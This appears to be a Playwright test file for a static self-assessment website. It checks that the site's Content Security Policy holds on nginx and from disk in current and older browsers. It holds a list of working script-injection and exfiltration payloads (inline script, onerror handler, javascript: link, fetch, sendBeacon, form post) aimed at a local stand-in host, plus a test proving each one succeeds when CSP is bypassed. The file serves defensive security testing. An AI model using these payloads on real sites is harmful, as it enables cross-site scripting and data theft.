"""What a browser does with the site and its policy: on Debian's nginx and from disk, on the current and oldest one."""

from __future__ import annotations

import json
from base64 import b64decode
from contextlib import contextmanager
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import Queue
from threading import Thread
from typing import TYPE_CHECKING
from urllib.parse import quote, unquote

import pytest
from clerk import Clerk
from generate_assessments import assessments, sectors, text_of, zipped
from office import Office
from pagefacts import pages
from paper import lay_out, print_page
from playwright.sync_api import Browser, Page, Request, Response, expect

if TYPE_CHECKING:
    from collections.abc import Iterator

    from nginx import Published

pytestmark = [pytest.mark.browser, pytest.mark.build]

# Whatever somebody could get into a page, or talk a script into: each tells the other host when it succeeds.
ATTACKS = {
    "inline script": "tell => add('script', {textContent: `new Image().src = '${tell}'`})",
    "inline handler": "tell => add('div', {innerHTML: `<img src='data:,' onerror=\"new Image().src = '${tell}'\">`})",
    "script of another host": "tell => add('script', {src: tell})",
    "javascript: address": "tell => add('a', {href: `javascript:void(new Image().src = '${tell}')`}).click()",
    "text run as script": "tell => setTimeout(`new Image().src = '${tell}'`)",
    "picture": "tell => add('img', {src: tell})",
    "style sheet": "tell => add('link', {rel: 'stylesheet', href: tell})",
    "inline style": "tell => add('style', {textContent: `body { background: url(${tell}) !important }`})",
    "style attribute": "tell => add('div', {innerHTML: `<p style='background: url(${tell})'>x</p>`})",
    "request": "tell => void fetch(tell, {mode: 'no-cors'}).catch(() => {})",
    "beacon": "tell => void navigator.sendBeacon(tell, 'answers')",
    "frame": "tell => add('iframe', {src: tell})",
    "form": "tell => add('form', {action: tell, method: 'post'}).submit()",
}
ADD = """
  const add = (tag, properties) => {
    const element = Object.assign(document.createElement(tag), properties);
    document.body.append(element);
    return element;
  };
"""
REFUSED = f"""tell => new Promise(refused => {{
  {ADD}
  document.addEventListener('securitypolicyviolation', event => refused(event.violatedDirective), {{once: true}});
  (ATTACK)(tell);
}})"""


# The bytes of the workbook that the form exports, in base64: the oldest browser gives Playwright no downloads.
FILLED_WORKBOOK = """text => {
  const blank = Uint8Array.from(atob(selfCheckBlank), sign => sign.charCodeAt(0));
  const bytes = selfCheckWorkbooks.fillWorkbook(blank, JSON.parse(text));
  return btoa(Array.from(bytes, byte => String.fromCharCode(byte)).join(''));
}"""


@dataclass(frozen=True)
class Journey:
    """A page of a browser, and the site's address: on nginx (policy as header and in pages) or on disk (in pages)."""

    page: Page
    address: str
    oldest: bool  # of the browsers


@pytest.fixture(params=["nginx", "nginx 86", "file", "file 86"])
def journey(request: pytest.FixtureRequest) -> Journey:
    """Each browser, with a server and without."""
    oldest = request.param.endswith("86")
    page = request.getfixturevalue("page86" if oldest else "page")
    if request.param.startswith("nginx"):
        return Journey(page, request.getfixturevalue("published").address, oldest)
    return Journey(page, request.getfixturevalue("site").as_uri(), oldest)


@contextmanager
def other_host() -> Iterator[tuple[str, Queue[str]]]:
    """The address of another host, and what it is asked for."""
    asked: Queue[str] = Queue()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            asked.put(self.path)
            self.send_response(204)
            self.end_headers()

        do_GET = do_POST = answer

        def log_message(self, *_arguments: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()


@pytest.mark.parametrize("journey", ["nginx", "file", "file 86"], indirect=True)
def test_every_page_loads_all_of_its_own_and_nothing_else(journey: Journey, site: Path) -> None:
    """Every page of every language: no request to another host, none that fails, nothing that the policy refuses."""
    page, address = journey.page, journey.address
    failed: list[str] = []

    def note_failure(request: Request) -> None:
        if request.failure != "net::ERR_ABORTED":  # still under way when the next page was opened
            failed.append(f"{request.url}: {request.failure}")

    def note_refusal(answer: Response) -> None:
        if answer.status >= 400:
            failed.append(f"{answer.url}: {answer.status}")

    page.on("requestfailed", note_failure)
    page.on("response", note_refusal)
    for file in pages(site):
        page.goto(f"{address}/{file.relative_to(site).as_posix()}")
    asked = page.requested  # type: ignore[attr-defined]
    assert len(asked) > 10 * len(pages(site))
    assert [one for one in asked if not one.startswith((f"{address}/", "data:"))] == []
    assert failed == []


def test_the_error_page_finds_its_style_and_its_way_home(published: Published, page: Page) -> None:
    """At any depth a missing page shows the site's own page, whose files are found."""
    answers: list[Response] = []
    page.on("response", lambda answer: answers.append(answer))  # noqa: PLW0108 - Playwright takes no built-in
    page.goto(f"{published.address}/sectors/deep/down/nothing.html")
    assert [answer.status for answer in answers if answer.status >= 400] == [404]
    page.locator("main").get_by_text("回到首页").click()
    expect(page).to_have_url(f"{published.address}/index.html")


def test_a_self_check_with_everything_on_it(journey: Journey, tmp_path: Path) -> None:
    """Filled in, taken as file and workbook, printed, gathered from a zip: the policy stands in nobody's way."""
    page, address = journey.page, journey.address
    clerk = Clerk(page).open(f"{address}/sectors/temples.html")
    clerk.fill_unit("北寺管理委员会", "2026 上半年")
    page.keyboard.press("Enter")
    first = clerk.requirements()[0]
    clerk.rate(first, 3)
    clerk.note(first, note="ᠮᠣᠩᠭᠣᠯ")
    clerk.wait_until_saved()
    text = clerk.text_of_file()
    assert list(json.loads(text)["answers"]) == [first]
    if not journey.oldest:  # there Playwright cannot wait for downloads
        with page.expect_download() as download:
            clerk.press("保存到文件")
        assert Path(download.value.path()).read_text("utf-8") == text
        with page.expect_download() as download:
            clerk.press_in_manager("导出 Excel")
        assert Path(download.value.path()).read_bytes().startswith(b"PK")
    lay_out(page, "filled")
    assert "北寺管理委员会" in print_page(page, tmp_path / "sheet.pdf").text
    fonts = "async () => (await document.fonts.load('1em \"Noto Sans Mongolian\"', '\\u1820')).map(font => font.status)"
    assert page.evaluate(fonts) == ["loaded"]

    clerk.open(f"{address}/sectors/temples.html").press_in_manager("导出 Excel")
    page.wait_for_function("() => globalThis.selfCheckWorkbooks && globalThis.selfCheckBlank")
    workbook = b64decode(page.evaluate(FILLED_WORKBOOK, text))

    together = tmp_path / "units.zip"
    units = assessments(5, seed=1, rules=sectors())
    files = {f"{number}.json": text_of(unit) for number, unit in enumerate(units)}
    together.write_bytes(zipped({**files, "北寺.xlsx": workbook}))
    office = Office(page).open(f"{address}/overview.html").hand_over([together])
    assert "已读取 6" in office.status()


def test_colours_are_remembered(journey: Journey) -> None:
    """The theme's own inline scripts run: a chosen scheme is there before the page is drawn."""
    page, address = journey.page, journey.address
    page.goto(f"{address}/plan.html")
    page.wait_for_function("() => document.documentElement.classList.contains('js')")
    page.evaluate("document.querySelector('#__palette_1').click()")
    page.wait_for_function("() => document.body.dataset.mdColorScheme === 'slate'")
    page.goto(f"{address}/en/sectors/towns.html", wait_until="commit")
    page.wait_for_function("() => document.body?.dataset.mdColorScheme === 'slate'")


def test_the_policy_refuses_what_is_not_the_sites_own(journey: Journey) -> None:
    """Code that got into a page does not run, and nothing reaches another host; each attempt is refused and told."""
    page = journey.page
    page.goto(f"{journey.address}/sectors/temples.html")
    with other_host() as (host, asked):
        for name, attack in ATTACKS.items():
            assert page.evaluate(REFUSED.replace("ATTACK", attack), f"{host}/{quote(name)}"), name
        assert asked.empty()
    # A refusal is told after the attempt has failed; what is said to the console comes in order.
    with page.expect_console_message(lambda message: message.text == "all told"):
        page.evaluate("console.log('all told')")
    refused = page.refused  # type: ignore[attr-defined]
    assert len(refused) >= len(ATTACKS)
    refused.clear()


def test_without_the_policy_every_attack_succeeds(chromium: Browser, published: Published) -> None:
    """The attacks above are real: a browser told to ignore the policy carries out each of them."""
    context = chromium.new_context(bypass_csp=True)
    page = context.new_page()
    with other_host() as (host, asked):
        for name, attack in ATTACKS.items():
            page.goto(f"{published.address}/sectors/temples.html")
            page.evaluate(f"tell => {{ {ADD} ({attack})(tell) }}", f"{host}/{quote(name)}")
            assert unquote(asked.get(timeout=30)) == f"/{name}"
    context.close()
